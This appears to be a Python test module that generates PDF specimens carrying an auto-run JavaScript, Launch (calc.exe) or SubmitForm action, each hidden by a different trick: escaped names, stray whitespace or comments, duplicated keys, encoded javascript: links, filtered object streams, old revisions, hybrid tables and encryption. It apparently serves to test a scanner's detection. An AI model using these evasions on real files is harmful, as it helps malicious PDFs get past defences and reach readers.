"""One and the same script in a PDF, written in every way a reader understands and a scanner may not."""

from __future__ import annotations

import io
from collections.abc import Iterator
from functools import cache, partial

import pikepdf

from tests.attack import pdf_writer as pdf
from tests.attack.pdf_active import SCRIPT
from tests.attack.specimen import Specimen, made

LAUNCH = b"<</S/Launch/F(calc.exe)>>"
# What stands behind /OpenAction.
SPELLINGS = {
    "one letter escaped": b"<</S/J#61vaScript/JS(x)>>",
    "every letter escaped": b"<</S/" + b"".join(b"#%02x" % letter for letter in b"JavaScript") + b"/JS(x)>>",
    "large hexadecimal": b"<</S/#4Aava#53cript/JS(x)>>",
    "key escaped": b"<</#53/JavaScript/#4a#53(x)>>",
    "newline between": b"<</S\n/JavaScript\n/JS\n(x)>>",
    "carriage return between": b"<</S\r/JavaScript\r/JS(x)>>",
    "NUL between": b"<</S\x00/JavaScript\x00/JS(x)>>",
    "form feed between": b"<</S\x0c/JavaScript\x0c/JS(x)>>",
    "tabs between": b"<</S\t\t/JavaScript\t/JS(x)>>",
    "comment between": b"<</S%/URI\n/JavaScript%>>\n/JS(x)>>",
    "comment with an ending": b"<</S %endobj\n/JavaScript/JS(x)>>",
    "comment with a string": b"<<%(\n/S/JavaScript%)\n/JS(x)>>",
    "key written twice": b"<</S/GoTo/S/JavaScript/JS(x)>>",
    "key written twice, script first": b"<</S/JavaScript/S/GoTo/JS(x)>>",
    "wide letters in the script": b"<</S/JavaScript/JS<feff0061006c006500720074>>>",
    "empty script": b"<</S/JavaScript/JS()>>",
    "program, escaped": b"<</S/L#61unch/F(calc.exe)>>",
    "program, newline between": b"<</S\n/Launch\n/F(calc.exe)>>",
    "submit, escaped": b"<</S/Submit#46orm/F(http://203.0.113.9/)>>",
    "brackets in a string before": b"<</X(\\)>>)/S/JavaScript/JS(x)>>",
    "string that ends late": b"<</X(((a)b)\\()/S/JavaScript/JS(x)>>",
    "link script with blanks": b"<</S/URI/URI( \tjava\\\nscript:alert\\(1\\))>>",
    "link script in octal": b"<</S/URI/URI(\\152avascript:alert)>>",
    "link script in hexadecimal": b"<</S/URI/URI<6a6176617363726970743a61>>>",
    "link script in wide letters": b"<</S/URI/URI<feff006a006100760061007300630072006900700074003a0061>>>",
    "link script in capitals": b"<</S/URI/URI(JaVaScRiPt:alert)>>",
}  # fmt: skip


def _key_of_catalog() -> bytes:
    return pdf.paper(b"/Open#41ction%s" % SCRIPT)


def _filters(*names: bytes) -> bytes:
    """The script in an object stream behind several filters."""
    import base64
    import zlib

    coders = {
        b"/FlateDecode": zlib.compress,
        b"/Fl": zlib.compress,
        b"/ASCIIHexDecode": lambda data: data.hex().encode() + b">",
        b"/ASCII85Decode": lambda data: base64.a85encode(data) + b"~>",
        b"/RunLengthDecode": lambda data: (
            b"".join(
                bytes([len(part) - 1]) + part
                for part in (data[at : at + 100] for at in range(0, len(data), 100))
            )
            + b"\x80"
        ),
    }
    body = b"10 0 " + SCRIPT
    for name in reversed(names):
        body = coders[name](body)
    told = b"/Type/ObjStm/N 1/First 5/Filter[%s]" % b" ".join(names)
    return _plain_with(pdf.stream(body, told))


def _plain_with(holder: bytes) -> bytes:
    """An object stream, written by hand, at number 40, with object 10 in it."""
    out, places = bytearray(pdf.HEAD), {}
    for number, body in {**pdf.objects(b"/OpenAction 10 0 R"), 40: holder}.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    rows = {0: (0, 0, 65535), 10: (2, 40, 0), 41: (1, table, 0)}
    rows |= {number: (1, place, 0) for number, place in places.items()}
    out += b"41 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (pdf.table_stream(rows), table)
    return bytes(out)


def _in_stream(inside: bytes = SCRIPT, entries: bytes = b"/Type/ObjStm") -> bytes:
    opened = pdf.objects(b"/OpenAction 10 0 R")
    return pdf.with_streams(opened, {10: inside}, entries=entries)


def _catalog_in_stream() -> bytes:
    parts = pdf.objects(b"/OpenAction%s" % SCRIPT)
    return pdf.with_streams({4: parts.pop(4)}, parts)


def _in_earlier_revision() -> bytes:
    """The script is gone from the last revision; a reader still shows the earlier one on request."""
    first = pdf.paper(b"/OpenAction%s" % SCRIPT)
    return pdf.revised(first, {1: b"<</Type/Catalog/Pages 2 0 R>>"})


def _in_later_revision() -> bytes:
    return pdf.revised(pdf.paper(), {1: b"<</Type/Catalog/Pages 2 0 R/OpenAction%s>>" % SCRIPT})


def _in_revision(number: int) -> bytes:
    data = pdf.paper()
    for at in range(6):
        action = b"/OpenAction%s" % SCRIPT if at == number else b""
        data = pdf.revised(data, {1: b"<</Type/Catalog/Pages 2 0 R%s>>" % action})
    return data


def _hybrid() -> bytes:
    """Object 10 is seen only by readers that follow /XRefStm."""
    parts = pdf.objects(b"/OpenAction 10 0 R")
    parts[40] = pdf.held({10: SCRIPT})
    table_at = pdf.written(parts).rindex(b"xref\n0 1")
    parts[41] = pdf.table_stream({10: (2, 40, 0)})
    return pdf.written(parts, b"/XRefStm %d" % table_at)


def _free_in_table() -> bytes:
    """The table calls the object free, an earlier table does not."""
    first = pdf.paper(b"/OpenAction 10 0 R", b"", SCRIPT)
    return pdf.revised(first, {4: pdf.stream(b"")})


@cache
def _saved(**options: object) -> bytes:
    """As a well-kept writer saves the same script."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf.paper(b"/OpenAction%s" % SCRIPT))) as opened:
        opened.save(out, deterministic_id="encryption" not in options, **options)
    return out.getvalue()


def _locked(password: str, **more: object) -> bytes:
    return _saved(encryption=pikepdf.Encryption(user=password, owner="o", **more))


_STREAMS = pikepdf.ObjectStreamMode
PACKINGS = {
    "in an object stream": _in_stream,
    "in an object stream, escaped": partial(_in_stream, b"<</S/J#61vaScript/JS(x)>>"),
    "in an object stream, newline in its type": partial(_in_stream, SCRIPT, b"/Type\n/ObjStm"),
    "in an object stream, type escaped": partial(_in_stream, SCRIPT, b"/Type/Obj#53tm"),
    "in an object stream without a type": partial(_in_stream, SCRIPT, b"/Type/Other"),
    "catalogue in an object stream": _catalog_in_stream,
    "behind two filters": partial(_filters, b"/ASCIIHexDecode", b"/FlateDecode"),
    "behind four filters": partial(
        _filters, b"/ASCII85Decode", b"/ASCIIHexDecode", b"/RunLengthDecode", b"/FlateDecode"
    ),
    "behind short filter names": partial(_filters, b"/Fl", b"/Fl"),
    "behind run lengths": partial(_filters, b"/RunLengthDecode"),
    "in an earlier revision": _in_earlier_revision,
    "in a later revision": _in_later_revision,
    "in the third of seven revisions": partial(_in_revision, 2),
    "in the last of seven revisions": partial(_in_revision, 5),
    "seen through a hybrid table": _hybrid,
    "in the first of two tables": _free_in_table,
    "key of the catalogue escaped": _key_of_catalog,
    "in the trailer": partial(pdf.paper, trailer=b"/Info<</X%s>>" % SCRIPT),
    "in the trailer under a private key": partial(pdf.paper, trailer=b"/X%s" % SCRIPT),
    "recompressed": partial(_saved, object_stream_mode=_STREAMS.generate, recompress_flate=True),
    "linearised": partial(_saved, linearize=True),
    "in the open": partial(_saved, qdf=True),
    "locked with an empty password": partial(_locked, ""),
    "locked with an empty password, old": partial(_locked, "", R=3, aes=False, metadata=False),
    "locked with a password": partial(_locked, "secret"),
    "program in an object stream": partial(_in_stream, LAUNCH),
}  # fmt: skip


def specimens() -> Iterator[Specimen]:
    spelt = {what: partial(pdf.paper, b"/OpenAction" + text) for what, text in SPELLINGS.items()}
    yield from made("pdf", "spelt", spelt)
    yield from made("pdf", "packed", PACKINGS)
